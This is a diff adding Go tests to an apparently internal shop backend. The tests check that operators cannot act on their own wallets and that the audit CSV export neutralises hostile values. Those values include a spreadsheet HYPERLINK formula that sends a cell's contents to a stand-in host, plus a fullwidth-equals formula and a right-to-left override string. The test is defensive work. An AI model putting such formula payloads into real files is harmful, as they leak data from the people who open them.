@@ -7,10 +7,12 @@ import (
 	"strings"
 	"testing"
 
+	"etld/internal/base/entropy"
 	"etld/internal/base/money"
 	"etld/internal/core/checkout"
 	"etld/internal/core/ledger"
 	"etld/internal/core/operator"
+	"etld/internal/core/user"
 	"etld/internal/features/shop"
 	"etld/internal/features/shop/address"
 	"etld/internal/infra/httpapi"
@@ -309,4 +311,90 @@ func (p *Program) holds(t *testing.T, a ledger.Account, want string) {
 	if err != nil {
 		t.Error(err)
 	}
+}
+
+// Nobody has a part in giving money back to the own wallet, or in having own rewards
+// paid at once, whoever else agrees.
+func TestOperatorsDecideNothingForTheirOwnWallet(t *testing.T) {
+	t.Parallel()
+	onBothEngines(t, func(t *testing.T, p *Program) {
+		_, _ = p.invited(t)
+		sender, checker, risk := p.staff(t, operator.Fulfilment), p.staff(t, operator.FinanceChecker), p.staff(t, operator.Risk)
+		reversals := make(map[*person]any)
+		for _, one := range []*person{sender, checker} {
+			orderNo := p.order(t, p.userOf(t, one), "seedPlate")
+			if r := sender.call("orders/ship", map[string]any{"orderNo": orderNo, "company": "Post", "number": "1"}); r.Code != http.StatusOK {
+				t.Fatalf("ship: %+v", r)
+			}
+			reversals[one] = map[string]any{"payload": map[string]any{"orderNo": orderNo, "cause": "lost"}, "reason": "lost in the post"}
+		}
+		own := map[string]any{"payload": map[string]any{"userId": p.userOf(t, risk)}, "reason": "a mistake"}
+		if r := risk.call("users/flag", own); r.Code != http.StatusOK {
+			t.Fatalf("flag: %+v", r)
+		}
+		for name, r := range map[string]reply{
+			"a reversal of the maker's own order":   sender.call("orders/reverse", reversals[sender]),
+			"a reversal of the checker's own order": checker.approve(sender.call("orders/reverse", reversals[checker])),
+			"the own flag is lifted":                risk.call("users/liftFlag", own),
+		} {
+			if r.Code != operator.ErrOwnAccount.Code {
+				t.Errorf("%s: %+v", name, r)
+			}
+		}
+		p.holds(t, ledger.House(ledger.RevenueGoods, money.USDT), "98")
+	})
+}
+
+// What an operator sends and the program refuses stands in the audit log for ever: an
+// auditor's spreadsheet does not calculate it, and nothing of it is hidden.
+func TestARefusalIsNotCalculatedByASpreadsheet(t *testing.T) {
+	t.Parallel()
+	onBothEngines(t, func(t *testing.T, p *Program) {
+		sender, auditor := p.staff(t, operator.Fulfilment), p.staff(t, operator.Auditor)
+		wants := map[string]string{`=HYPERLINK("https://x.example/?"&A1)`: `'=HYPERLINK("https://x.example/?"&A1)`, "\uff1d1+1": "'\uff1d1+1", "owt\u202eone": `owt\u202eone`}
+		for id := range wants {
+			if r := sender.call("goods/hide", map[string]any{"goodsId": id}); r.Code == http.StatusOK {
+				t.Errorf("%q was hidden", id)
+			}
+			if r := sender.call("orders/address", map[string]any{"orderNo": id}); r.Code == http.StatusOK {
+				t.Errorf("the address of %q was shown", id)
+			}
+		}
+		file := dataOf[struct{ Content string }](t, auditor.call("audit/export", map[string]any{"from": 1}))
+		rows, err := csv.NewReader(strings.NewReader(file.Content)).ReadAll()
+		if err != nil {
+			t.Fatal(err)
+		}
+		for id, want := range wants {
+			calls := 0
+			for _, row := range rows {
+				if row[6] == want {
+					calls++
+				}
+			}
+			if calls != 2 {
+				t.Errorf("two refusals of %q are exported as %q %d times", id, want, calls)
+			}
+		}
+	})
+}
+
+// userOf is the account of an operator's own wallet.
+func (p *Program) userOf(t *testing.T, one *person) string {
+	t.Helper()
+	var account user.Person
+	err := p.db.Update(t.Context(), func(tx *sqldb.Tx) (err error) {
+		var found bool
+		if account, found, err = user.FindByAddress(tx, one.address); err != nil || found {
+			return err
+		}
+		if account, err = user.Create(tx, entropy.System(), user.New{Address: one.address}); err != nil {
+			return err
+		}
+		return p.team.Joined(tx, account)
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+	return account.ID
 }
